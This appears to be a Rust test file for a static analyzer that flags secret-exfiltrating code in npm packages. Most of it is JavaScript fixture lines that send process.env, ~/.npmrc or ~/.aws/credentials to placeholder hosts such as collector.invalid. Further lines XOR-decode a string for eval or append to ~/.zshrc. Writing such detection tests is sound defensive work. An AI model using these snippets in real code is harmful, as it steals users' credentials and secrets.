//! Clients that no table names, known ones that are used another way, and packages that only look like one.

use weir_model::contents::{CapabilityKind, SourceKind, Surface};

use super::{assert_each_flows, assert_none_flows, installed, run};

use SourceKind::{CredentialFile, Decoded, Environment};

/// What it does, the source, and how; after it `fs` and `os` are there.
const CLIENTS: &[(&str, SourceKind, &str)] = &[
    (
        "publishes by a client made with an address",
        Environment,
        "const c = require('mqtt').connect('mqtt://broker.invalid'); c.on('connect', () => c.publish('t', JSON.stringify(process.env)))",
    ),
    (
        "keeps it in a store with a host",
        Environment,
        "const R = require('ioredis'), r = new R({ host: 'cache.invalid', port: 6379 }); r.set('k', JSON.stringify(process.env)).then(() => r.quit())",
    ),
    (
        "writes it into a database",
        Environment,
        "const { Client } = require('pg'); (async () => { const c = new Client('postgres://u:p@db.invalid/x'); await c.connect(); await c.query('insert', [JSON.stringify(process.env)]) })()",
    ),
    (
        "into a collection of one",
        Environment,
        "const { MongoClient } = require('mongodb'); (async () => { const m = new MongoClient('mongodb+srv://u:p@c0.invalid'); await m.db('x').collection('e').insertOne({ env: process.env }) })()",
    ),
    (
        "asks by a client with an address",
        Environment,
        "const { GraphQLClient } = require('graphql-request'), c = new GraphQLClient('https://gql.invalid/v1'); c.request('mutation', { d: JSON.stringify(process.env) })",
    ),
    (
        "by a package that was told where to send",
        Environment,
        "const S = require('@sentry/node'); S.init({ dsn: 'https://k@o1.invalid/1' }); S.captureMessage('boot', { extra: { e: { ...process.env } } })",
    ),
    (
        "sends a file by a queue",
        CredentialFile,
        "const a = require('amqplib'); a.connect('amqp://q.invalid').then(c => c.createChannel()).then(ch => ch.sendToQueue('q', fs.readFileSync(os.homedir() + '/.npmrc')))",
    ),
    (
        "sends at the end of a chain",
        Environment,
        "require('superagent').post('https://collector.invalid').accept('json').timeout(9).retry(2).send({ d: JSON.stringify(process.env) }).end(() => {})",
    ),
    (
        "at the end of another",
        Environment,
        "require('wretch')('https://collector.invalid').content('text/plain').options({}).body(JSON.stringify(process.env)).post()",
    ),
    (
        "adds it to every request",
        Environment,
        "const axios = require('axios'), c = axios.create({ baseURL: 'https://collector.invalid' }); c.interceptors.request.use(o => { o.data = { env: process.env }; return o }); c.post('/', {})",
    ),
    (
        "makes the body of a request anew",
        Environment,
        "require('axios')({ url: 'https://collector.invalid', method: 'post', data: {}, transformRequest: [() => JSON.stringify(process.env)] })",
    ),
    (
        "makes it a header of all requests",
        Environment,
        "const axios = require('axios'); axios.defaults.headers.common['X-Trace'] = JSON.stringify(process.env); axios.get('https://collector.invalid')",
    ),
    (
        "reads by what a shell for scripts hands on",
        CredentialFile,
        "const { fs: f, os: o } = require('zx'); f.readFile(`${o.homedir()}/.npmrc`, 'utf8').then(body => fetch('https://collector.invalid', { method: 'POST', body }))",
    ),
    (
        "by another",
        CredentialFile,
        "const t = require('shelljs').cat(os.homedir() + '/.aws/credentials').stdout; fetch('https://collector.invalid', { method: 'POST', body: t })",
    ),
    (
        "reads the environment of Bun",
        Environment,
        "const { env } = require('bun'); fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(env) })",
    ),
    (
        "reads the environment of Deno",
        Environment,
        "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(Deno.env.toObject()) })",
    ),
];

/// What all of them begin with.
const BEFORE: &str = "const fs = require('fs'), os = require('os'); ";

#[test]
fn what_clients_are_given_leaves() {
    assert_each_flows(BEFORE, CLIENTS);
}

#[test]
fn what_does_not_send_has_no_flow() {
    let cases = [
        (
            "colours an address and the environment",
            "const chalk = require('chalk'); console.log(chalk.red('https://api.example/', JSON.stringify(process.env))); fetch('https://api.example')",
        ),
        (
            "prints both",
            "require('debug')('x')('https://api.example', process.env); require('debug').log('https://api.example', { ...process.env })",
        ),
        (
            "checks its settings",
            "const { cleanEnv, url } = require('envalid'); cleanEnv(process.env, { API: url({ default: 'https://api.example' }) })",
        ),
        (
            "checks them by a schema with an address",
            "const Ajv = require('ajv'), a = new Ajv({ url: 'https://schema.example' }); a.validate({}, process.env)",
        ),
        (
            "keeps it in a store of this machine",
            "const R = require('ioredis'), r = new R({ host: 'localhost' }); r.set('k', JSON.stringify(process.env))",
        ),
        (
            "keeps it in a store of which nothing is known",
            "const R = require('keyv'), r = new R({ namespace: 'a.b' }); r.set('k', JSON.stringify(process.env)); fetch('https://api.example')",
        ),
        (
            "gives a client a key of its own",
            "const c = require('mqtt').connect('mqtt://broker.example', { password: process.env.MQTT_TOKEN }); c.publish('t', process.version)",
        ),
        (
            "authenticates all requests",
            "const axios = require('axios'); axios.defaults.headers.common['Authorization'] = 'Bearer ' + process.env.API_TOKEN; axios.get('https://api.example')",
        ),
        (
            "looks at all requests",
            "require('axios').interceptors.request.use(o => { console.log(o.url, process.env); return o })",
        ),
    ];
    assert_none_flows(BEFORE, &cases);
}

#[test]
fn counted_characters_are_not_decoded() {
    let decodes = |code: &str| {
        let code = format!("{code}; eval(t)");
        let files = [("index.js", &*code)];
        let facts = run(&files, &[], &[(Surface::Import, "index.js")]);
        facts.flows.iter().any(|flow| flow.source == Decoded)
    };
    assert!(!decodes(
        "let t = ''; for (let i = 0; i < 26; i++) t += String.fromCharCode(i + 97)"
    ));
    assert!(!decodes(
        "let t = {}, i; for (i = 65; i < 91; i++) t[i] = String.fromCharCode(i); t = t[65] + t[70]"
    ));
    assert!(decodes(
        "let t = ''; for (let i = 0; i < s.length; i++) t += String.fromCharCode(s.charCodeAt(i) ^ 7)"
    ));
    assert!(decodes(
        "let t = ''; for (let i = 0; i < s.length; i++) t += String.fromCharCode(s[i])"
    ));
    assert!(decodes(
        "let t = s.map(c => String.fromCharCode(c)).join('')"
    ));
}

#[test]
fn other_runtimes_and_open_files_write_as_well() {
    for code in [
        "require('bun').write(require('os').homedir() + '/.zshrc', 'x')",
        "Bun.write(require('os').homedir() + '/.zshrc', 'x')",
        "Deno.writeTextFileSync(require('os').homedir() + '/.zshrc', 'x')",
        "const f = require('fs').openSync(require('os').homedir() + '/.zshrc', 'a'); require('fs').writeSync(f, 'x')",
    ] {
        let facts = installed(&[("index.js", code)]);
        let persists = |it: &weir_model::contents::Capability| it.kind == CapabilityKind::Persists;
        assert!(facts.capabilities.iter().any(persists), "{code}");
    }
    let reads = "require('fs').openSync(require('os').homedir() + '/.zshrc', 'r')";
    let facts = installed(&[("index.js", reads)]);
    let persists = |it: &weir_model::contents::Capability| it.kind == CapabilityKind::Persists;
    assert!(!facts.capabilities.iter().any(persists));
}
